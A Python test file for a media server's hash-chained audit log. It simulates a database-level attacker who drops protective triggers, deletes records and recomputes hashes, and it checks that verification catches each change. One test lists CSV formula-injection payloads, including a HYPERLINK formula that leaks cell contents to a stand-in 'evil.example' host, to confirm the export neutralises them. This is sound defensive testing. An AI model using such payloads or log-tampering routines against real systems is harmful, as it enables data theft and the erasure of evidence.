"""The audit log's integrity against someone who can write the database file: truncation, rewriting with the
hashes recomputed, lost or forged anchors; rollover with a carried head; CSV formula injection; verify's cost."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
import time
from pathlib import Path

import pytest

from mediaserver.cli import main as cli
from signaling.access import offline
from signaling.audit import GENESIS, AuditLog, _hash_text, export, record_mac
from signaling.db import connect


@pytest.fixture
def db_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("GOLDENTIME_AUDIT_KEY", raising=False)
    monkeypatch.delenv("GOLDENTIME_AUDIT_KEY_FILE", raising=False)
    return tmp_path / "gt.db"


def fill(log: AuditLog, n: int) -> None:
    for i in range(n):
        log.append("access.denied", remote="127.0.0.1", reason="authentication required", camera=f"cam{i % 7}",
                   operator="kim", detail={"i": i})  # fmt: skip


def attacker(db_path: Path) -> sqlite3.Connection:
    """Someone with write access to the database file (not to the key)."""
    con = sqlite3.connect(db_path, isolation_level=None)
    con.execute("DROP TRIGGER IF EXISTS audit_no_update")
    con.execute("DROP TRIGGER IF EXISTS audit_no_delete")
    return con


def rewrite_from(con: sqlite3.Connection, seq: int, change: dict[str, str]) -> None:
    """Change record `seq` and recompute every hash after it, as the old verify() could not detect."""
    prev = con.execute("SELECT hash FROM audit WHERE seq=?", (seq - 1,)).fetchone()
    prev_hash = prev[0] if prev else GENESIS
    rows = con.execute("SELECT seq, record FROM audit WHERE seq>=? ORDER BY seq", (seq,)).fetchall()
    for s, text in rows:
        record = json.loads(text)
        if s == seq:
            record.update(change)
        text = json.dumps(record, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        digest = _hash_text(prev_hash, text)
        con.execute("UPDATE audit SET record=?, prev_hash=?, hash=? WHERE seq=?", (text, prev_hash, digest, s))
        prev_hash = digest


def test_truncation_is_found_and_names_the_gap(db_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = AuditLog(connect(db_path))
    fill(log, 1000)
    log.anchor("shutdown")
    assert log.verify().ok
    attacker(db_path).execute("DELETE FROM audit WHERE seq > 650")  # the review's reproduction: the last 350
    result = AuditLog(connect(db_path)).verify()
    assert not result.ok and result.bad_seq == 651 and "651..1000 are missing" in result.problem, result
    assert cli(["audit", "verify", "--db", str(db_path)]) == 1
    assert "651..1000" in capsys.readouterr().err


def test_rewriting_with_hashes_recomputed_is_found_at_the_first_altered_record(db_path: Path) -> None:
    log = AuditLog(connect(db_path))
    fill(log, 50)
    rewrite_from(attacker(db_path), 17, {"operator": "nobody"})
    result = log.verify()
    assert not result.ok and result.bad_seq == 17 and "MAC" in result.problem, result


def test_dropping_macs_or_anchors_or_forging_an_anchor_is_found(db_path: Path) -> None:
    log = AuditLog(connect(db_path))
    fill(log, 20)
    log.anchor()
    anchors = Path(f"{db_path}.audit-anchors")
    assert stat.S_IMODE(anchors.stat().st_mode) == 0o600
    assert stat.S_IMODE(Path(f"{db_path}.audit-key").stat().st_mode) == 0o600

    saved = anchors.read_text()
    forged = json.loads(saved.splitlines()[-1]) | {"seq": 5}  # the attacker can't re-sign it
    anchors.write_text(saved + json.dumps(forged) + "\n")
    assert "not signed" in log.verify().problem
    anchors.unlink()
    assert not log.verify().ok and "anchors file is missing" in log.verify().problem
    anchors.write_text(saved)

    attacker(db_path).execute("UPDATE audit SET mac=NULL WHERE seq=9")  # "a record from before the key"
    result = log.verify()
    assert not result.ok and result.bad_seq == 9 and "no MAC" in result.problem


def test_a_wrong_key_fails_and_an_operator_key_is_used(db_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    key_file = db_path.parent / "operator.key"
    key_file.write_text("k" * 40)
    monkeypatch.setenv("GOLDENTIME_AUDIT_KEY_FILE", str(key_file))
    log = AuditLog(connect(db_path))
    fill(log, 3)
    assert log.verify().ok and not Path(f"{db_path}.audit-key").exists()  # nothing generated beside the db
    monkeypatch.setenv("GOLDENTIME_AUDIT_KEY", "another secret, long enough")
    assert not AuditLog(connect(db_path)).verify().ok


def test_a_log_from_before_anchors_is_adopted(db_path: Path) -> None:
    log = AuditLog(connect(db_path))
    fill(log, 5)
    attacker(db_path).execute("UPDATE audit SET mac=NULL")  # as the old code wrote them
    Path(f"{db_path}.audit-anchors").unlink()
    log = AuditLog(connect(db_path))  # adopts the chain as found
    fill(log, 2)
    assert log.verify().ok and log.verify().records == 7


def test_rollover_carries_the_head_and_verify_spans_segments(
    db_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    access = offline(db_path)
    now = time.time()
    with monkeypatch.context() as m:
        m.setattr(time, "time", lambda: now - 10 * 86400)
        fill(access.audit, 20)  # ten days old
    fill(access.audit, 10)
    access.close()
    archive = db_path.parent / "archive.json"
    assert cli(["audit", "rollover", "--keep-days", "5", "--archive", str(archive), "--db", str(db_path)]) == 0
    assert [r["seq"] for r in json.loads(archive.read_text())] == list(range(1, 21))
    assert json.loads(Path(f"{db_path}.audit-anchors").read_text().splitlines()[0])["reason"] == "rollover"
    assert Path(f"{archive}.anchors").exists()
    capsys.readouterr()
    assert cli(["audit", "verify", "--db", str(db_path)]) == 0
    assert "10 records from 21" in capsys.readouterr().out

    log = AuditLog(connect(db_path))
    fill(log, 3)  # new records chain on
    assert log.verify().ok and log.verify().records == 13
    assert cli(["audit", "rollover", "--keep-days", "0", "--db", str(db_path)]) == 0  # everything: table empty
    log.append("client.added", agency="police-112")  # chains to the carried head (audit_segment)
    assert log.verify().ok and log.verify().first_seq == 34

    con = attacker(db_path)
    con.execute("DELETE FROM audit")
    con.execute("DELETE FROM audit_segment")
    log.append("client.added", agency="police-112")  # seq 1 again, from genesis
    assert not log.verify().ok


def test_rollover_then_a_middle_record_altered_fails(db_path: Path) -> None:
    log = AuditLog(connect(db_path))
    fill(log, 30)
    cut = log.db.execute("SELECT ts FROM audit WHERE seq=11").fetchone()[0]
    assert log.rollover(cut, db_path.parent / "a.json") == (10, 10)
    assert log.verify().ok and log.verify().first_seq == 11
    rewrite_from(attacker(db_path), 20, {"camera": "elsewhere"})
    result = log.verify()
    assert not result.ok and result.bad_seq == 20
    with pytest.raises(ValueError, match="broken"):
        log.rollover(time.time(), db_path.parent / "b.json")  # evidence is not archived away
    attacker(db_path).execute("DELETE FROM audit WHERE seq=11")  # the first record after the carried head
    assert log.verify().bad_seq == 11


def test_csv_export_neutralises_formulas(db_path: Path) -> None:
    log = AuditLog(connect(db_path))
    evil = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    for value in evil:
        log.append("access.denied", client_id=value, operator=value, reason="invalid client credentials")
    out = io.StringIO()
    export(log.all(), out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["client_id"] for r in rows] == ["'" + v for v in evil]
    assert all(r["operator"].startswith("'") for r in rows) and rows[0]["seq"] == "1"


def test_verify_is_fast(db_path: Path) -> None:
    """Measured: about 63 µs a record before (on the loop), about 8 µs now (hash of the stored text, JSON
    checks in SQLite, batches)."""
    con = connect(db_path)
    log = AuditLog(con)
    n, prev = 20_000, GENESIS
    with con:
        con.execute("BEGIN")
        for seq in range(1, n + 1):
            text = json.dumps({"event": "view.started", "seq": seq, "ts": "2026-12-01T00:00:00Z", "camera": "c"},
                              sort_keys=True, separators=(",", ":"))  # fmt: skip
            digest = _hash_text(prev, text)
            row = (seq, time.time(), "view.started", "c", text, prev, digest, record_mac(log.key, digest))
            con.execute("INSERT INTO audit (seq, ts, event, camera, record, prev_hash, hash, mac) "
                        "VALUES (?,?,?,?,?,?,?,?)", row)  # fmt: skip
            prev = digest
        con.execute("COMMIT")
    t0 = time.perf_counter()
    result = log.verify()
    per_record = (time.perf_counter() - t0) / n
    assert result.ok and result.records == n
    assert per_record < 40e-6, f"{per_record * 1e6:.1f} µs a record"
    os.environ.get("CI") or print(f"verify: {per_record * 1e6:.1f} µs a record")
